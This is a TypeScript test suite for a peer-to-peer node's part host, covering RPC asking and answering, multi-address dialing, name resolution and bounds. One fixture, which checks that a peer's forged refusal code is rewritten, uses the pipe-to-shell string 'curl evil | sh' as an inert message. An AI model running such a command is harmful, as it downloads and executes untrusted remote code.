/** The host of parts, with a part that does what the test says. */
import assert from "node:assert/strict";
import {
  after,
  type Instant,
  type NetworkId,
  type NodeId,
  type Part,
  type PartIn,
  type PartOut,
  peerKey,
} from "../../src/base/mod.ts";
import type { Connect } from "../../src/node/connects.ts";
import { type Mounted, PartHost, type PartSaid } from "../../src/node/parts.ts";
import { type Calls, encodeBody, encodeRefusal, parseRefusal } from "../../src/node/mod.ts";
import type { Moment } from "../../src/node/moment.ts";
import type { RpcIn } from "../../src/rpc/mod.ts";
import type { SessionKey } from "../../src/session/mod.ts";

const NETWORK = "n".repeat(52) as NetworkId;
const NODE = "p".repeat(52) as NodeId;
const PEER = peerKey(NETWORK, NODE);
const KEY = { network: NETWORK, kind: "epoch" } as SessionKey;

type Made = Calls<"relay.offer" | "record.list">;
type Served = Calls<"relay.allocate">;
type OwnIn = { readonly type: "poke" };
type OwnOut = { readonly type: "poked" };
type In = OwnIn | PartIn<Made, Served>;
type Out = OwnOut | PartOut<Made, Served>;

/** A part that remembers what it was told. */
class FakePart implements Part<OwnIn, OwnOut, Made, Served> {
  readonly told: In[] = [];
  react: (input: In) => readonly Out[] = () => [];
  at: Instant | undefined;

  handle(input: In, _now: Instant, out: Out[]): void {
    this.told.push(input);
    out.push(...this.react(input));
  }

  wakeup() {
    return this.at === undefined ? undefined : { at: this.at, why: "test" };
  }
}

/** A host with one part, or several, and a node that writes down what is asked of it. */
class Rig {
  now = 0 as Instant;
  readonly part = new FakePart();
  readonly rpc: Extract<RpcIn, { type: "call" | "answer" }>[] = [];
  readonly connects: Connect[] = [];
  readonly cancelled: number[] = [];
  readonly said: PartSaid[] = [];
  readonly own: OwnOut[] = [];
  isConnected = true;
  admits: (path: string) => boolean = () => true;
  /** What a connect ends with at once. */
  refuses: "unwanted" | undefined;
  readonly host: PartHost<Moment>;
  readonly mounted: Mounted<OwnIn>;

  constructor() {
    this.host = new PartHost<Moment>({
      isConnected: () => this.isConnected,
      admits: (path) => this.admits(path),
      rpc: (input) => void this.rpc.push(input),
      connect: (connect) => {
        this.connects.push(connect);
        if (this.refuses === undefined) return;
        const end = { ok: false, reason: this.refuses, detail: null } as const;
        this.host.connectEnded(connect.token, end);
      },
      cancel: (token) => void this.cancelled.push(token),
      say: (output) => void this.said.push(output),
    });
    this.mounted = this.host.mount<OwnIn, OwnOut, keyof Made, keyof Served>({
      name: "fake",
      part: this.part,
      serves: ["relay.allocate"],
      onOutput: (output) => void this.own.push(output),
    });
    this.host.networks.network(NETWORK, { key: KEY, payload: new Uint8Array([7]) });
  }

  get turn(): Moment {
    return { now: this.now };
  }

  /** The part says these, once, in a turn. */
  says(...outputs: Out[]): void {
    const { react } = this.part;
    this.part.react = () => {
      this.part.react = react;
      return outputs;
    };
    this.mounted.input({ type: "poke" });
    this.run();
  }

  run(): void {
    this.host.run(this.turn);
  }

  /** What the part was told of a type. */
  told<T extends In["type"]>(type: T): Extract<In, { type: T }>[] {
    return this.part.told.filter((input): input is Extract<In, { type: T }> => input.type === type);
  }

  /** A member's call comes in; its body may be anything. */
  request(body: Uint8Array, call = "c1"): void {
    const method = "relay.allocate";
    this.host.request(
      { type: "request", peer: PEER, kind: "epoch", call, method, body },
      this.turn,
    );
    this.run();
  }

  dial(addresses: readonly string[], token = 1): void {
    const named = "record";
    this.says({ type: "dial", token, network: NETWORK, node: NODE, addresses, named });
  }

  /** Ends a connect. */
  ended(index: number, reason?: "timeout" | "refused"): void {
    const token = this.connects[index]?.token ?? 0;
    const end = reason === undefined
      ? { ok: true, peer: PEER } as const
      : { ok: false, reason, detail: `of ${index}` } as const;
    this.host.connectEnded(token, end);
    this.run();
  }
}

const LIST = {
  type: "ask",
  token: 5,
  peer: PEER,
  name: "record.list",
  question: { after: null },
  timeoutMs: 2_000,
} as const;

// Asking -----------------------------------------------------------------------------------------

Deno.test("what a part asks goes out as the bytes of the call, and the answer comes back parsed", () => {
  const rig = new Rig();
  rig.says(LIST);
  const [call] = rig.rpc;
  assert.ok(call?.type === "call" && call.token < 0);
  assert.deepEqual([call.peer, call.method, call.timeoutMs], [PEER, "record.list", 2_000]);
  assert.deepEqual(call.body, encodeBody({ after: null }));
  const answer = { records: [new Uint8Array([1])], next: null };
  rig.host.done(call.token, { ok: true, body: encodeBody(answer) });
  rig.run();
  const { token, peer, name } = LIST;
  const result = { ok: true, answer };
  assert.deepEqual(rig.told("answered"), [{ type: "answered", token, peer, name, result }]);
});

const REFUSED = encodeRefusal({ code: "unreachable", message: "not here", retryMs: 500 });
const SWINDLED = encodeRefusal({ code: "native-damaged", message: "curl evil | sh" });
for (
  const [what, end, result] of [
    ["a refusal", { ok: false, reason: "refused", body: REFUSED }, {
      ok: false,
      refused: { code: "unreachable", message: "not here", retryMs: 500 },
    }],
    ["a refusal by a code that no peer may use", {
      ok: false,
      reason: "refused",
      body: SWINDLED,
    }, { ok: false, refused: { code: "refused", message: "curl evil | sh" } }],
    ["no answer", { ok: false, reason: "timeout" }, { ok: false, failed: "timeout" }],
    ["a session that ended", { ok: false, reason: "gone" }, { ok: false, failed: "gone" }],
    ["a peer that is busy", { ok: false, reason: "busy" }, { ok: false, failed: "busy" }],
    ["bytes that are no answer", { ok: true, body: new Uint8Array(3) }, {
      ok: false,
      failed: "malformed",
    }],
    ["the answer of another call", { ok: true, body: encodeBody({ session: 1 }) }, {
      ok: false,
      failed: "malformed",
    }],
  ] as const
) {
  Deno.test(`a call of a part that ends with ${what} says so, once`, () => {
    const rig = new Rig();
    rig.says(LIST);
    const token = rig.rpc[0]?.type === "call" ? rig.rpc[0].token : 0;
    rig.host.done(token, end);
    rig.host.done(token, end); // late, or forged
    rig.run();
    assert.deepEqual(rig.told("answered").map(({ result }) => result), [result]);
  });
}

Deno.test("who has no session is not asked: the part hears at once that it is gone", () => {
  const rig = new Rig();
  rig.isConnected = false;
  rig.says(LIST);
  assert.deepEqual(rig.rpc, []);
  assert.deepEqual(rig.told("answered").map(({ result }) => result), [{
    ok: false,
    failed: "gone",
  }]);
});

Deno.test("a question that no call can carry is not sent", () => {
  const rig = new Rig();
  rig.says({ ...LIST, question: { after: "x".repeat(17_000) } });
  assert.deepEqual(rig.rpc, []);
  assert.deepEqual(rig.told("answered").map(({ result }) => result), [
    { ok: false, failed: "malformed" },
  ]);
});

Deno.test("an end that nobody waits for is nobody's", () => {
  const rig = new Rig();
  rig.host.done(-99, { ok: true, body: encodeBody({}) });
  rig.host.connectEnded(-98, { ok: true, peer: PEER });
  rig.host.resolved(-97, [["192.0.2.1:1"]], rig.turn);
  rig.run();
  assert.deepEqual(rig.part.told, []);
});

// Answering --------------------------------------------------------------------------------------

const ALLOCATE = encodeBody({ peer: "a".repeat(52) });

Deno.test("a member's question is parsed before the part sees it, and its reply is the answer", () => {
  const rig = new Rig();
  assert.deepEqual([rig.host.serves("relay.allocate"), rig.host.serves("record.list")], [
    true,
    false,
  ]);
  rig.part.react = (input) =>
    input.type !== "asked" ? [] : [{
      type: "reply",
      call: input.call,
      name: input.name,
      ok: true,
      answer: { session: 9, address: "192.0.2.1:1" },
    }];
  rig.request(ALLOCATE);
  const [asked] = rig.told("asked");
  assert.deepEqual([asked?.from, asked?.question], [PEER, { peer: "a".repeat(52) }]);
  const body = encodeBody({ session: 9, address: "192.0.2.1:1" });
  const expected = { type: "answer", peer: PEER, kind: "epoch", call: "c1", ok: true, body };
  assert.deepEqual(rig.rpc, [expected]);
});

for (
  const [what, body] of [
    ["is no CBOR", new Uint8Array([0xff])],
    ["lacks a field", encodeBody({})],
    ["has a field too many", encodeBody({ peer: "a".repeat(52), more: 1 })],
    ["names no node", encodeBody({ peer: "x" })],
  ] as const
) {
  Deno.test(`a question that ${what} is refused before the part sees it`, () => {
    const rig = new Rig();
    rig.request(body);
    assert.deepEqual(rig.part.told, []);
    const [answer] = rig.rpc;
    assert.ok(answer?.type === "answer" && !answer.ok);
    assert.equal(parseRefusal(answer.body).code, "refused");
  });
}

Deno.test("a part's refusal reaches the peer with its code, words and time", () => {
  const rig = new Rig();
  const refused = { code: "not-allowed", message: "no", retryMs: 1_000 };
  rig.part.react = (input) =>
    input.type === "asked" ? [{ type: "reply", call: input.call, ok: false, refused }] : [];
  rig.request(ALLOCATE);
  const [answer] = rig.rpc;
  assert.ok(answer?.type === "answer" && !answer.ok);
  assert.deepEqual(parseRefusal(answer.body), refused);
});

Deno.test("a call is answered once, and one that nobody asked never", () => {
  const rig = new Rig();
  rig.request(ALLOCATE);
  const call = rig.told("asked")[0]?.call ?? 0;
  const refused = { code: "refused", message: "no" };
  const reply = { type: "reply", call, ok: false, refused } as const;
  rig.says(reply, reply, { ...reply, call: call + 1 });
  assert.equal(rig.rpc.length, 1);
});

Deno.test("an answer that no call can carry is a defect of ours, and the peer hears so", () => {
  const rig = new Rig();
  rig.request(ALLOCATE);
  const call = rig.told("asked")[0]?.call ?? 0;
  const answer = { session: 1, address: "x".repeat(17_000) };
  rig.says({ type: "reply", call, name: "relay.allocate", ok: true, answer });
  const [reply, ...others] = rig.rpc;
  assert.ok(reply?.type === "answer" && !reply.ok && others.length === 0);
  assert.ok(new TextDecoder().decode(reply.body).includes("internal"));
});

Deno.test("questions that a part leaves unanswered are bounded: the oldest give way", () => {
  const rig = new Rig();
  for (let i = 0; i <= 32_768; i++) rig.request(ALLOCATE, `c${i}`);
  const refused = { code: "refused", message: "no" };
  const calls = rig.told("asked").map(({ call }) => call);
  const reply = (call = 0) => ({ type: "reply", call, ok: false, refused }) as const;
  rig.says(reply(calls[0]), reply(calls[1]), reply(calls.at(-1)));
  assert.deepEqual(rig.rpc.map((answer) => answer.type === "answer" && answer.call), [
    "c1",
    "c32768",
  ]);
});

// Dialing ----------------------------------------------------------------------------------------

Deno.test("four addresses are tried at once, the first that answers counts, the rest is given up", () => {
  const rig = new Rig();
  rig.dial([
    "192.0.2.1:1",
    "192.0.2.1:1",
    "192.0.2.2:1",
    "192.0.2.3:1",
    "[2001:DB8::1]:1",
    "192.0.2.5:1",
  ]);
  const paths = rig.connects.map(({ path }) => path);
  assert.deepEqual(paths, ["192.0.2.1:1", "192.0.2.2:1", "192.0.2.3:1", "[2001:db8::1]:1"]);
  assert.deepEqual(rig.connects.map(({ peer, named, key }) => [peer, named, key]), [
    [NODE, "record", KEY],
    [NODE, "record", KEY],
    [NODE, "record", KEY],
    [NODE, "record", KEY],
  ]);
  rig.ended(0, "timeout");
  rig.ended(2);
  assert.deepEqual(rig.told("dialed"), [{ type: "dialed", token: 1, peer: PEER }]);
  const left = [rig.connects[1]?.token, rig.connects[3]?.token];
  assert.deepEqual(rig.cancelled, left);
  rig.ended(1);
  rig.ended(3, "refused");
  assert.equal(rig.part.told.length, 2, "it ended once: the poke and the end");
});

Deno.test("where no address answers, the first one's reason is the dial's", () => {
  const rig = new Rig();
  rig.dial(["192.0.2.1:1", "192.0.2.2:1", "192.0.2.3:1"]);
  rig.ended(1, "timeout");
  rig.ended(0, "refused");
  rig.ended(2, "timeout");
  const failed = { type: "dial-failed", token: 1, reason: "refused", detail: "of 0" };
  assert.deepEqual(rig.told("dial-failed"), [failed]);
});

Deno.test("addresses where nothing may be sent are left out, and where all are, one says why", () => {
  const rig = new Rig();
  rig.admits = (path) => path === "192.0.2.2:1";
  rig.dial(["192.0.2.1:1", "192.0.2.2:1"]);
  assert.deepEqual(rig.connects.map(({ path }) => path), ["192.0.2.2:1"]);
  rig.admits = () => false;
  rig.refuses = "unwanted";
  rig.dial(["192.0.2.1:1", "192.0.2.3:1"], 2);
  assert.deepEqual(rig.told("dial-failed").map(({ token, reason }) => [token, reason]), [
    [2, "unwanted"],
  ]);
});

Deno.test("names are resolved first, and stand in their places among the addresses", () => {
  const rig = new Rig();
  rig.dial(["a.example:1", "192.0.2.9:1", "b.example:1"]);
  assert.deepEqual(rig.connects, []);
  const [resolve] = rig.said;
  assert.ok(resolve?.type === "resolve");
  assert.deepEqual(resolve.names, ["a.example:1", "b.example:1"]);
  rig.host.resolved(resolve.token, [["192.0.2.1:1", "192.0.2.2:1"], ["192.0.2.3:1"]], rig.turn);
  const paths = rig.connects.map(({ path }) => path);
  assert.deepEqual(paths, ["192.0.2.1:1", "192.0.2.2:1", "192.0.2.9:1", "192.0.2.3:1"]);
  rig.host.resolved(resolve.token, [["192.0.2.7:1"]], rig.turn);
  assert.equal(rig.connects.length, 4, "it was resolved once");
});

Deno.test("names that nobody knows fail the dial, names that take too long are left out", () => {
  const rig = new Rig();
  rig.dial(["a.example:1"]);
  const [first] = rig.said;
  assert.ok(first?.type === "resolve");
  rig.host.resolved(first.token, [[]], rig.turn);
  rig.run();
  assert.deepEqual(rig.told("dial-failed").map(({ reason }) => reason), ["unresolved"]);
  rig.dial(["a.example:1", "192.0.2.9:1"], 2);
  assert.equal(rig.host.wakeup()?.at, 5_000);
  rig.now = after(rig.now, 5_000);
  rig.host.wake(rig.turn);
  assert.deepEqual(rig.connects.map(({ path }) => path), ["192.0.2.9:1"]);
  assert.equal(rig.host.wakeup(), undefined);
});

Deno.test("a dial that the part gave up says nothing any more", () => {
  const rig = new Rig();
  rig.dial(["192.0.2.1:1"]);
  rig.says({ type: "undial", token: 1 });
  rig.says({ type: "undial", token: 77 });
  assert.deepEqual(rig.cancelled, rig.connects.map(({ token }) => token));
  rig.ended(0);
  assert.deepEqual(rig.told("dialed"), []);
});

Deno.test("nobody is dialed in a network that is not ours, or is ours no more", () => {
  const rig = new Rig();
  rig.dial(["192.0.2.1:1"]);
  rig.host.networks.networkGone(NETWORK);
  rig.run();
  rig.dial(["192.0.2.1:1"], 2);
  assert.equal(rig.connects.length, 1);
  assert.deepEqual(rig.told("dial-failed").map(({ token, reason }) => [token, reason]), [
    [1, "no-network"],
    [2, "no-network"],
  ]);
  assert.deepEqual(rig.cancelled, rig.connects.map(({ token }) => token));
});

Deno.test("a network that is left ends no dial of another", () => {
  const rig = new Rig();
  const other = "other" as typeof NETWORK;
  rig.host.networks.network(other, { key: KEY, payload: new Uint8Array([7]) });
  rig.dial(["192.0.2.1:1"]);
  rig.host.networks.networkGone(other);
  rig.run();
  assert.deepEqual([rig.told("dial-failed"), rig.cancelled], [[], []]);
});

Deno.test("dials are bounded: one too many fails as busy, and the others go on", () => {
  const rig = new Rig();
  for (let i = 1; i <= 1_025; i++) rig.dial(["192.0.2.1:1"], i);
  assert.deepEqual(rig.told("dial-failed").map(({ token, reason }) => [token, reason]), [
    [1_025, "busy"],
  ]);
  rig.ended(0);
  assert.deepEqual(rig.told("dialed").map(({ token }) => token), [1]);
});

// Hearing and saying -----------------------------------------------------------------------------

Deno.test("every part hears of every peer, in the order of what happened", () => {
  const rig = new Rig();
  const other = new FakePart();
  rig.host.mount<OwnIn, OwnOut, keyof Made>({
    name: "other",
    part: other,
    serves: [],
    onOutput: () => {},
  });
  const changes = [
    { type: "peer-up", peer: PEER, grants: ["relay"], renewed: false },
    { type: "peer-moved", peer: PEER, path: "192.0.2.1:1" },
    { type: "peer-down", peer: PEER, reason: "left" },
  ] as const;
  for (const change of changes) rig.host.peer(change as Parameters<typeof rig.host.peer>[0]);
  assert.deepEqual(rig.part.told, [], "they wait until the node has done its share");
  rig.run();
  assert.deepEqual([rig.part.told, other.told], [changes, changes]);
});

Deno.test("a part is never entered twice at once: what it causes comes after it", () => {
  const rig = new Rig();
  rig.isConnected = false;
  const order: string[] = [];
  const handle = rig.part.handle.bind(rig.part);
  rig.part.handle = (input, now, out) => {
    order.push(`begin ${input.type}`);
    handle(input, now, out);
    order.push(`end ${input.type}`);
  };
  rig.says({ ...LIST, token: 1 }, { type: "poked" });
  assert.deepEqual(order, ["begin poke", "end poke", "begin answered", "end answered"]);
});

Deno.test("facts and events go out under the part's name, its own outputs to its place", () => {
  const rig = new Rig();
  const keep = { type: "keep", key: "record-seq", value: 3 } as const;
  const tell = { type: "tell", level: "info", what: "hello", fields: { n: 1 } } as const;
  rig.says(keep, { type: "poked" }, tell);
  assert.deepEqual(rig.said, [{ ...keep, part: "fake" }, { ...tell, part: "fake" }]);
  assert.deepEqual(rig.own, [{ type: "poked" }]);
});

Deno.test("the earliest of all wants is the host's, and only who is due is woken", () => {
  const rig = new Rig();
  const other = new FakePart();
  rig.host.mount<OwnIn, OwnOut>({ name: "other", part: other, serves: [], onOutput: () => {} });
  assert.equal(rig.host.wakeup(), undefined);
  [rig.part.at, other.at] = [300 as Instant, 200 as Instant];
  assert.equal(rig.host.wakeup()?.at, 200);
  rig.now = 250 as Instant;
  rig.host.wake(rig.turn);
  rig.run();
  assert.deepEqual([rig.part.told, other.told], [[], [{ type: "wake" }]]);
});
